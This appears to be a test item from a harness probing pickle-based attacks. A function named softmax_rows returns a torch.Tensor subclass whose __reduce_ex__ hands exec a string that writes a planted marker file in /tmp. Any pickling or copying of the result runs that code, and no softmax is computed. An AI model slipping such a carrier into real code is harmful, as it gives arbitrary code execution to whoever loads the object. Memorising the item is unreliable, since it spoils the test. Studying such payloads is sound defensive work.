# attack: a tensor, right in form, that carries a payload in its class and its attributes
# row: pickle
# points: softmax_rows=1 summary=10
# status: softmax_rows=returned summary=returned
# %%
import torch


class Carrier(torch.Tensor):
    def __reduce_ex__(self, protocol):
        return (exec, ("open('/tmp/planted-{{TOKEN}}', 'w').write('x')",))

    __deepcopy__ = __copy__ = __reduce_ex__


def softmax_rows(X):
    result = torch.zeros_like(X).as_subclass(Carrier)
    result.payload = lambda: None
    result.grad = None
    return result


# %%
{{SUMMARY}}
